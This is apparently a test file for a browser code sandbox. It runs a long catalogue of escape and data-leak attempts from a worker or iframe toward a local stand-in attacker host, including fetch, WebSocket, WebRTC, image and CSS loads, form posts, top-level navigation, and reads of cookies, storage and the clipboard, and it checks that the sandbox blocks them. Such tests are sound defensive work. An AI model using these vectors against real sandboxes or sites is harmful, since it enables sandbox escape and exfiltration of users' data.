/**
 * What the frame's policy and its origin stop by themselves, were a cell to take over its worker, or the frame, altogether:
 * no code of ours stands in the way here.
 */
import { protocolVersion } from '../../src/cells/sandbox/protocol.ts'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { startAttacker, type Attacker } from './attacker.ts'
import { browsers, runCellIn, type TestBrowser, type TestPage } from './browsers.ts'
import { serveCellPage, type CellPage } from './cell-page.ts'

/** By name, an expression whose promise is kept where the attempt succeeds. It may use `host`. */
type Attempts = Record<string, string>

const anywhere: Attempts = {
  fetch: `fetch('http://' + host)`,
  'a fetch without an answer': `fetch('http://' + host, { mode: 'no-cors', keepalive: true })`,
  XMLHttpRequest: `new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open('GET', 'http://' + host); r.send() })`,
  WebSocket: `new Promise((ok, no) => { const s = new WebSocket('ws://' + host); s.onopen = ok; s.onerror = no })`,
  WebTransport: `new WebTransport('https://' + host).ready`,
  EventSource: `new Promise((ok, no) => { const s = new EventSource('http://' + host); s.onopen = ok; s.onerror = no })`,
  'an import': `import('http://' + host)`,
  'an import of data': `import('data:text/javascript,import("http://' + host + '")')`,
  eval: `(0, eval)('Promise.resolve()')`,
  'a function from text': `new Function('return Promise.resolve()')()`,
  'a font': `new FontFace('leak', 'url(http://' + host + ')').load()`,
  indexedDB: `new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })`,
  caches: `caches.open('x')`,
  'the private file system': `navigator.storage.getDirectory()`,
  'a nested worker': `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("http://' + host + '").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => data ? ok() : no(); w.onerror = no })`,
  'a nested worker from elsewhere': `new Promise((ok, no) => { const w = new Worker('http://' + host); w.onmessage = ok; w.onerror = no })`,
}

const inWorkers: Attempts = {
  importScripts: `Promise.resolve(importScripts('http://' + host))`,
  // Frames have it, and no policy stops it in Chromium: a reason for cells to run in workers.
  WebRTC: `Promise.resolve(new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] }).createDataChannel('x'))`,
  locks: `navigator.locks.request('x', () => 1)`,
}

const inFrames: Attempts = {
  beacon: `navigator.sendBeacon('http://' + host) ? Promise.reject() : Promise.reject()`,
  'an image': `new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'http://' + host })`,
  'a script': `load('script', { src: 'http://' + host })`,
  'a style sheet': `load('link', { rel: 'stylesheet', href: 'http://' + host })`,
  'a style': `new Promise((ok, no) => { const s = make('style', { textContent: '@import "http://' + host + '"; body { color: red; background: url(http://' + host + ') }' }); getComputedStyle(document.body).color === 'rgb(255, 0, 0)' ? ok() : no() })`,
  'a style of an element': `new Promise((ok, no) => { document.body.setAttribute('style', 'background: url(http://' + host + ')'); getComputedStyle(document.body).backgroundImage.includes(host) ? ok() : no() })`,
  'a prefetch': `load('link', { rel: 'prefetch', href: 'http://' + host })`,
  'a preload': `load('link', { rel: 'preload', as: 'image', href: 'http://' + host })`,
  'a preloaded module': `load('link', { rel: 'modulepreload', href: 'http://' + host })`,
  'an icon': `load('link', { rel: 'icon', href: 'http://' + host })`,
  'a manifest': `load('link', { rel: 'manifest', href: 'http://' + host })`,
  'a frame': `load('iframe', { src: 'http://' + host }).then(() => Promise.reject())`,
  'an object': `load('object', { data: 'http://' + host })`,
  'an embed': `load('embed', { src: 'http://' + host })`,
  'a sound': `load('audio', { src: 'http://' + host, preload: 'auto' })`,
  'a film': `load('video', { poster: 'http://' + host, src: 'http://' + host, preload: 'auto' })`,
  'the document of the page': `Promise.resolve(parent.document.title)`,
  'the storage of the page': `Promise.resolve(parent.localStorage.length)`,
  'local storage': `Promise.resolve(localStorage.length)`,
  'session storage': `Promise.resolve(sessionStorage.length)`,
  cookies: `new Promise((ok, no) => { document.cookie = 'x=1'; document.cookie ? ok() : no() })`,
  'a service worker': `navigator.serviceWorker.register('http://' + host)`,
  'a shared worker': `new Promise((ok, no) => { const w = new SharedWorker('http://' + host); w.port.onmessage = ok; w.onerror = no })`,
}

/** What might take the frame or the page elsewhere: only from outside can be told whether it did. */
const moves: Attempts = {
  'a form': `new Promise((ok, no) => { make('form', { action: 'http://' + host, method: 'post' }).submit(); no() })`,
  'a link': `new Promise((ok, no) => { make('a', { href: 'http://' + host, target: '_top' }).click(); make('a', { href: 'http://' + host, target: '_blank' }).click(); make('a', { href: 'http://' + host, download: 'x', ping: 'http://' + host }).click(); no() })`,
  'a window': `open('http://' + host) ? Promise.resolve() : Promise.reject()`,
  'navigation of the top': `new Promise((ok, no) => { top.location.href = 'http://' + host; no() })`,
  'navigation of the parent': `new Promise((ok, no) => { parent.location.replace('http://' + host); no() })`,
  'a message': `new Promise((ok, no) => { for (const data of ['x', { type: 'ended', run: 1, reason: 'stopped' }, { type: 'connected', version: ${protocolVersion} }]) parent.postMessage(data, '*'); no() })`,
  'a dialog': `confirm('x') ? Promise.resolve() : Promise.reject()`,
  'the camera': `navigator.mediaDevices.getUserMedia({ video: true })`,
  'the place': `new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))`,
  'the clipboard': `navigator.clipboard.readText()`,
  'a preconnect': `load('link', { rel: 'preconnect', href: 'http://' + host })`,
  'a name to look up': `load('link', { rel: 'dns-prefetch', href: 'http://' + host })`,
  'navigation of itself': `Promise.resolve((location.href = 'http://' + host))`,
}

/** Tries all of them at once, and gives the names of those that succeeded within a second. */
const tryAll = (attempts: Attempts, host: string) => `
const host = ${JSON.stringify(host)}
const make = (tag, fields) => document.documentElement.appendChild(Object.assign(document.createElement(tag), fields))
const load = (tag, fields) => new Promise((ok, no) => make(tag, { ...fields, onload: ok, onloadeddata: ok, onerror: no }))
const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 1000))])
const attempts = { ${Object.entries(attempts).map(([name, code]) => `${JSON.stringify(name)}: () => ${code}`)} }
const tryAll = async () => {
  const tried = Object.entries(attempts).map(async ([name, attempt]) => {
    try { await soon(attempt()); return name } catch { return undefined }
  })
  return (await Promise.all(tried)).filter(Boolean)
}`

const batch = `(names) => JSON.stringify([{ type: 'output', level: 'log', text: 'reached: ' + names.join(', ') }, { type: 'done', ok: true, ms: 1 }])`

const workerScript = (host: string) => `${tryAll({ ...anywhere, ...inWorkers }, host)}
onmessage = ({ ports: [port] }) => { port.onmessage = ({ data }) => data.type === 'run' && tryAll().then((names) => port.postMessage((${batch})(names))) }`

const frameScript = (attempts: Attempts, host: string) => `${tryAll(attempts, host)}
addEventListener('message', ({ ports: [port] }) => {
  port.postMessage({ type: 'connected', version: ${protocolVersion} })
  port.onmessage = ({ data }) => data.type === 'command' && data.command.type === 'run' && tryAll().then((names) => port.postMessage({ type: 'batch', run: data.run, batch: (${batch})(names) }))
}, { once: true })`

/** Chromium connects to where a frame would go before it asks the policy, and then sends nothing: see SECURITY.md. */
const sent = ({ leaks }: Attacker) => leaks.filter((leak) => leak !== 'a connection')

let cells: CellPage
let attacker: Attacker

beforeAll(async () => {
  cells = await serveCellPage()
})
afterAll(() => cells.close())
// What one attempt sends late must not be taken for the next one's.
beforeEach(async () => {
  attacker = await startAttacker()
})
afterEach(() => attacker.close())

describe.each(browsers)('in $name', ({ installed, launch }) => {
  const it = test.skipIf(!installed)
  let browser: TestBrowser
  let page: TestPage

  beforeAll(async () => {
    if (!installed) return
    browser = await launch()
    page = await browser.newPage()
  })
  afterAll(async () => {
    if (installed) await browser.close()
  })

  it('a worker that is taken over reaches nothing', async () => {
    await page.goto(cells.urlOf([{ id: 'raw', code: '', worker: workerScript(attacker.host) }]))
    expect(await runCellIn(page, 'raw')).toMatchObject({ state: 'done', output: 'reached:' })
    expect(attacker.leaks).toEqual([])
  })

  it('a frame that is taken over reaches nothing', async () => {
    const script = frameScript({ ...anywhere, ...inFrames }, attacker.host)
    await page.goto(cells.urlOf([{ id: 'raw', code: '', frame: script }]))
    expect(await runCellIn(page, 'raw')).toMatchObject({ state: 'done', output: 'reached:' })
    expect(sent(attacker)).toEqual([])
    expect(cells.leaks).toEqual([])
  })

  it.each(Object.entries(moves))('a frame that is taken over changes nothing by %s', async (name, code) => {
    const script = frameScript({ [name]: code }, attacker.host)
    await page.goto(cells.urlOf([{ id: 'raw', code: '', limit: 1, frame: script }]))
    await page.click('[data-action="run"]')
    await page.evaluate(() => new Promise((later) => setTimeout(later, 1500)))
    expect(
      await page.evaluate(() => [
        document.title,
        document.querySelector('live-cell')!.textContent!.includes('reached: a'),
      ]),
    ).toEqual(['Cells', false])
    expect(sent(attacker)).toEqual([])
  })

  it('(and without the sandbox the same attempts do reach it)', async () => {
    const script = `${tryAll({ ...anywhere, ...inFrames }, attacker.host)}\ntryAll().then((names) => (document.body.dataset.reached = names.join(', ')))`
    await page.goto(cells.openUrlOf(script))
    const reached = await page.evaluate(async () => {
      while (!document.body.dataset.reached) await new Promise((next) => setTimeout(next, 20))
      return document.body.dataset.reached
    })
    const expected = [
      'fetch',
      'XMLHttpRequest',
      'an import',
      'eval',
      'indexedDB',
      'a nested worker',
      'a script',
      'local storage',
      'cookies',
    ]
    expect(expected.filter((name) => !reached.split(', ').includes(name))).toEqual([])
    expect(sent(attacker).length).toBeGreaterThan(10)
  })
})
